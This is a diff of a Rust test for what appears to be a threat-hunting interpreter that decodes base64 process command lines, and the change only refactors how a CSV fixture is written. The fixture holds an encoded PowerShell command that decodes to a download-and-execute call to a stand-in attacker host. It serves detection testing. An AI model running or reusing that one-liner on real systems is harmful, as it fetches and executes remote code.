@@ -110,14 +110,11 @@ fn b64_decodes_columns_and_pasted_text() {
         "{decoded:?}"
     );
     // Over a frame column: the decoded text can go straight on to %ioc.
-    let dir = tempfile::tempdir().unwrap();
-    let csv = dir.path().join("cmd.csv");
-    std::fs::write(
-        &csv,
+    let (_dir, csv) = crate::common::written(
+        "cmd.csv",
         "CommandLine\n\"powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AeAApAA==\"\nnotepad.exe\n",
-    )
-    .unwrap();
-    ok_text(&mut interp, &format!("procs = %load {}", csv.display()));
+    );
+    ok_text(&mut interp, &format!("procs = %load {csv}"));
     ok_text(&mut interp, "dec = %b64 procs.CommandLine");
     let dec = interp.session().get("dec").unwrap();
     assert_eq!(dec.height(), 1);
